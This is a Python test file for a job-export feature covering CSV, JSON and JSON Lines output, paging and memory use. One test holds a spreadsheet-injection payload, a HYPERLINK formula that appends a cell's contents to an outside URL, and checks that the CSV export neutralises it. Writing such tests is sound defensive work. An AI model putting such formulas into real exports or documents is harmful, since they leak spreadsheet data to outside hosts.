"""Jobs as CSV, JSON and JSON Lines."""

from __future__ import annotations

import csv
import io
import tracemalloc
from collections.abc import Iterator
from datetime import UTC, datetime
from uuid import UUID

import msgspec
import pytest

from cliprow.batches import Job
from cliprow.cli.job_exports import write_jobs
from cliprow.job_export import PAGE_JOBS, Format, JobWriter

AT = datetime(2026, 11, 29, 9, 30, tzinfo=UTC)


def make(position: int) -> Job:
    """A job whose texts need care."""
    return Job(
        id=UUID(int=position), batch_id=UUID(int=0), batch_number=7, position=position, project="P",
        topic='Tea, "green"\u2028hot', title="T", platforms=["youtube", "tiktok"], status="failed", stage=None,
        paused_after=None, progress=40, generation=1, error_code="X", error_message="Two\nlines",
        next_step=None, result_data={"youtube": {}}, created_at=AT, started_at=AT, completed_at=None,
    )  # fmt: skip


def written(form: Format, count: int, page: int) -> bytes:
    """So many jobs, in pages of so many."""
    writer, jobs = JobWriter(form), [make(n) for n in range(1, count + 1)]
    pages = [writer.page(jobs[first : first + page]) for first in range(0, count, page)]
    return b"".join([writer.begin(), *pages, writer.end()])


@pytest.mark.parametrize("count", [0, 1, 5])
@pytest.mark.parametrize("page", [2, 10])
def test_every_format_tells_the_same_jobs_however_they_are_paged(count: int, page: int) -> None:
    jobs = [make(n) for n in range(1, count + 1)]
    assert msgspec.json.decode(written("json", count, page), type=list[Job]) == jobs
    lines = written("ndjson", count, page).splitlines()
    assert [msgspec.json.decode(line, type=Job) for line in lines] == jobs
    rows = list(csv.DictReader(io.StringIO(written("csv", count, page).decode(), newline="")))
    assert [(row["position"], row["topic"], row["platforms"], row["error_message"]) for row in rows] == [
        (str(job.position), job.topic, "youtube,tiktok", "Two\nlines") for job in jobs
    ]
    assert all((row["created_at"], row["completed_at"]) == ("2026-11-29T09:30:00Z", "") for row in rows)


def test_a_spreadsheet_calculates_no_topic_and_programs_get_it_as_it_is() -> None:
    topic = '=HYPERLINK("https://example.org?" & A1)'
    jobs = [msgspec.structs.replace(make(1), topic=topic)]
    (row,) = csv.DictReader(io.StringIO(b"".join(write_jobs(jobs, "csv")).decode(), newline=""))
    assert row["topic"] == f"'{topic}"
    assert msgspec.json.decode(b"".join(write_jobs(jobs, "ndjson")), type=Job).topic == topic


@pytest.mark.parametrize("form", ["csv", "json", "ndjson"])
def test_many_pages_take_the_memory_of_a_few(form: Format) -> None:
    def peak(pages: int) -> int:
        jobs: Iterator[Job] = map(make, range(1, pages * PAGE_JOBS + 1))
        tracemalloc.start()
        try:
            assert sum(map(len, write_jobs(jobs, form))) > pages * PAGE_JOBS * 100
            return tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

    # By when the garbage is collected, it differs by a sixth; twenty pages kept would be ten times as much.
    assert peak(20) < 1.3 * peak(2)
